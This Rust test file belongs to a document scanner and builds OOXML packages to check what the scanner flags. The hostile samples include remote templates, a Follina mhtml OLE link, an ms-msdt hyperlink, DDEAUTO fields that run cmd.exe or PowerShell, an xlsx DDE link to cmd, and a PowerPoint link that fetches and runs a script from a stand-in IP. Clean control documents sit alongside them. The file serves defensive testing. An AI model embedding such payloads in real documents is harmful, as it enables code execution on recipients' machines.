//! OOXML documents that reach outside the file: remote templates, linked
//! OLE objects (Follina), URL handlers, DDE fields and links; and ordinary
//! documents (hyperlinks, a template on the user's disk, formulas) that
//! must stay clean. The packages are written in code with the zip writer.

use xferscan::{Action, FindingKind, Report, Verdict};

use crate::util::{self, Method, assert_clean, zip_of};

const RELS_NS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn rels(items: &[(&str, &str, bool)]) -> Vec<u8> {
    let mut x = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<Relationships xmlns=\"{RELS_NS}\">"
    );
    for (i, (ty, target, external)) in items.iter().enumerate() {
        let mode = if *external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        x.push_str(&format!(
            "<Relationship Id=\"rId{}\" Type=\"{REL}/{ty}\" Target=\"{target}\"{mode}/>",
            i + 1
        ));
    }
    x.push_str("</Relationships>");
    x.into_bytes()
}

fn body(inner: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{inner}</w:body></w:document>").into_bytes()
}

/// A docx: its main part, the main part's relationships and the settings'
/// (where Word keeps the attached template).
fn docx(document: &[u8], doc_rels: &[u8], settings_rels: &[u8]) -> Vec<u8> {
    let content_types = b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";
    let root = rels(&[("officeDocument", "word/document.xml", false)]);
    zip_of(
        &[
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", &root),
            ("word/document.xml", document),
            ("word/_rels/document.xml.rels", doc_rels),
            ("word/settings.xml", b"<?xml version=\"1.0\"?><w:settings xmlns:w=\"w\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"),
            ("word/_rels/settings.xml.rels", settings_rels),
        ],
        Method::Deflated,
    )
}

fn plain_body() -> Vec<u8> {
    body("<w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p>")
}

fn findings<'a>(r: &'a Report, key: &'a str) -> Vec<&'a xferscan::Finding> {
    r.findings.iter().filter(|f| f.kind.key() == key).collect()
}

#[test]
fn a_remote_template_is_flagged_with_its_url() {
    let url = "https://templates.example.net/invoice.dotm";
    let d = docx(
        &plain_body(),
        &rels(&[("styles", "styles.xml", false)]),
        &rels(&[("attachedTemplate", url, true)]),
    );
    let r = util::scan("invoice.docx", d);
    let f = findings(&r, "document.remote_template");
    assert_eq!(f.len(), 1, "{:#?}", r.findings);
    assert_eq!(f[0].action, Action::Flag);
    assert!(matches!(&f[0].kind, FindingKind::RemoteTemplate { target } if target == url));
    assert_eq!(
        f[0].path.names().last().map(|s| &**s),
        Some("word/_rels/settings.xml.rels")
    );
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn a_follina_linked_object_is_blocked() {
    let target = "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html";
    let d = docx(
        &plain_body(),
        &rels(&[("oleObject", target, true)]),
        &rels(&[]),
    );
    let r = util::scan("report.docx", d);
    let f = findings(&r, "document.external_object");
    assert_eq!(f.len(), 1, "{:#?}", r.findings);
    assert!(matches!(&f[0].kind, FindingKind::ExternalObject { target: t } if t == target));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_ms_msdt_hyperlink_is_blocked() {
    let d = docx(
        &plain_body(),
        &rels(&[(
            "hyperlink",
            "ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_RebrowseForFile=cal?c&quot;",
            true,
        )]),
        &rels(&[]),
    );
    let r = util::scan("report.docx", d);
    assert!(
        matches!(&findings(&r, "document.external_link.handler")[..], [f] if matches!(&f.kind, FindingKind::ExternalLink { handler: Some(h), .. } if h == "ms-msdt")),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn a_ddeauto_field_split_across_runs_is_blocked() {
    let field = concat!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>",
        "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>",
        "<w:r><w:rPr><w:b/></w:rPr><w:instrText xml:space=\"preserve\">EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe</w:instrText></w:r>",
        "<w:r><w:instrText xml:space=\"preserve\"> &quot;/k powershell -c calc&quot; </w:instrText></w:r>",
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Loading</w:t></w:r>",
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    );
    let d = docx(&body(field), &rels(&[]), &rels(&[]));
    let r = util::scan("memo.docx", d);
    let f = findings(&r, "document.dde.command");
    assert_eq!(f.len(), 1, "{:#?}", r.findings);
    match &f[0].kind {
        FindingKind::Dde { form, command, .. } => {
            assert_eq!(form, "DDEAUTO");
            assert!(
                command.contains("cmd.exe") && command.contains("calc"),
                "{command}"
            );
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn a_dde_field_to_another_program_is_flagged() {
    let d = docx(
        &body(
            "<w:p><w:fldSimple w:instr=' DDE Excel \"C:\\\\data\\\\q3.xlsx\" \"Sheet1!R1C1\" '><w:r><w:t>42</w:t></w:r></w:fldSimple></w:p>",
        ),
        &rels(&[]),
        &rels(&[]),
    );
    let r = util::scan("memo.docx", d);
    assert_eq!(findings(&r, "document.dde").len(), 1, "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Suspicious);
}

fn xlsx(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let workbook = b"<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
    let sheet = b"<?xml version=\"1.0\"?><worksheet><sheetData><row r=\"1\"><c r=\"A1\"><v>2</v></c><c r=\"B1\"><f>SUM(A1:A1)*2</f><v>4</v></c><c r=\"C1\"><f>HYPERLINK(\"https://example.com\",\"site\")</f></c></row></sheetData></worksheet>";
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
        ("xl/workbook.xml", workbook),
        ("xl/worksheets/sheet1.xml", sheet),
    ];
    entries.extend_from_slice(extra);
    zip_of(&entries, Method::Deflated)
}

#[test]
fn an_xlsx_dde_link_to_cmd_is_blocked() {
    let link = b"<?xml version=\"1.0\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink xmlns:r=\"r\" ddeService=\"cmd\" ddeTopic=\"/c calc.exe\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>";
    let wb_rels = rels(&[
        ("worksheet", "worksheets/sheet1.xml", false),
        ("externalLink", "externalLinks/externalLink1.xml", false),
    ]);
    let r = util::scan(
        "prices.xlsx",
        xlsx(&[
            ("xl/_rels/workbook.xml.rels", &wb_rels),
            ("xl/externalLinks/externalLink1.xml", link),
        ]),
    );
    let f = findings(&r, "document.dde.command");
    assert!(
        matches!(&f[..], [f] if matches!(&f.kind, FindingKind::Dde { command, .. } if command == "cmd|/c calc.exe")),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_ordinary_docx_with_hyperlinks_and_a_local_template_is_clean() {
    let d = docx(
        &body(
            "<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>site</w:t></w:r></w:hyperlink><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
        ),
        &rels(&[
            ("styles", "styles.xml", false),
            (
                "hyperlink",
                "https://www.example.com/products?a=1&amp;b=2",
                true,
            ),
            ("hyperlink", "mailto:sales@example.com", true),
            ("image", "media/image1.png", false),
        ]),
        &rels(&[(
            "attachedTemplate",
            "file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx",
            true,
        )]),
    );
    let r = util::scan("letter.docx", d);
    assert_clean(&r);
    assert!(
        !r.findings
            .iter()
            .any(|f| f.kind.key().starts_with("document.")),
        "{:#?}",
        r.findings
    );
}

#[test]
fn an_ordinary_xlsx_with_formulas_is_clean() {
    let wb_rels = rels(&[
        ("worksheet", "worksheets/sheet1.xml", false),
        ("externalLinkPath", "file:///C:\\finance\\budget.xlsx", true),
    ]);
    let r = util::scan(
        "budget.xlsx",
        xlsx(&[("xl/_rels/workbook.xml.rels", &wb_rels)]),
    );
    assert_clean(&r);
    assert!(
        !r.findings
            .iter()
            .any(|f| f.kind.key().starts_with("document.")),
        "{:#?}",
        r.findings
    );
}

/// PowerPoint's mouse-over "Run program" action: a slide's shape links
/// to `ppaction://program` through a hyperlink whose target is the
/// command line. The same link in Word runs the program on a click.
#[test]
fn a_hyperlink_to_a_program_is_blocked() {
    let slide = b"<?xml version=\"1.0\"?><p:sld xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Title\"><a:hlinkMouseOver r:id=\"rId1\" action=\"ppaction://program\"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>";
    let slide_rels = rels(&[(
        "hyperlink",
        "powershell%20-NoP%20-W%20Hidden%20-c%20iex(iwr%20http://203.0.113.7/a)",
        true,
    )]);
    let pptx = zip_of(
        &[
            (
                "[Content_Types].xml",
                &b"<?xml version=\"1.0\"?><Types/>"[..],
            ),
            ("ppt/presentation.xml", b"<p:presentation xmlns:p=\"p\"/>"),
            ("ppt/slides/slide1.xml", slide),
            ("ppt/slides/_rels/slide1.xml.rels", &slide_rels),
        ],
        Method::Deflated,
    );
    let r = util::scan("deck.pptx", pptx);
    assert_eq!(
        findings(&r, "document.external_link.handler").len(),
        1,
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    // In Word, and a control: links to a page, a download and a document.
    let d = docx(
        &plain_body(),
        &rels(&[
            ("hyperlink", "C:\\Windows\\System32\\cmd.exe", true),
            ("hyperlink", "https://example.com/setup.exe", true),
        ]),
        &rels(&[]),
    );
    assert_eq!(util::scan("memo.docx", d).verdict, Verdict::Malicious);
    let d = docx(
        &plain_body(),
        &rels(&[
            ("hyperlink", "https://example.com/setup.exe", true),
            ("hyperlink", "file:///C:/Reports/q3.xlsx", true),
        ]),
        &rels(&[]),
    );
    assert_clean(&util::scan("memo.docx", d));
}

/// A package's part names are its own: Word reaches its main part and
/// headers through the relationships. A field is read in whatever part
/// holds it, in a package typed docx or, with no `word/` folder, zip.
#[test]
fn a_dde_field_in_a_part_outside_word_is_read() {
    let field = "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; \"/></w:p>";
    let content_types = b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    for (main, with_word) in [
        ("doc/document.xml", true),
        ("document.xml", false),
        ("hdr/header1.xml", true),
    ] {
        let root = rels(&[("officeDocument", main, false)]);
        let mut parts: Vec<(&str, Vec<u8>)> = vec![
            ("[Content_Types].xml", content_types.to_vec()),
            ("_rels/.rels", root),
            (main, body(field)),
        ];
        if with_word {
            parts.push(("word/styles.xml", b"<w:styles xmlns:w=\"w\"/>".to_vec()));
        }
        let refs: Vec<(&str, &[u8])> = parts.iter().map(|(n, d)| (*n, &d[..])).collect();
        let r = util::scan("memo.docx", zip_of(&refs, Method::Deflated));
        assert_eq!(
            findings(&r, "document.dde.command").len(),
            1,
            "{main}: {:#?}",
            r.findings
        );
        assert_eq!(r.verdict, Verdict::Malicious);
    }
    // Control: a zip that is no package, holding XML of the same words.
    let z = zip_of(
        &[("notes/instr.xml", b"<note instr=\"DDE is a protocol\"/>")],
        Method::Deflated,
    );
    util::assert_clean(&util::scan("notes.zip", z));
}
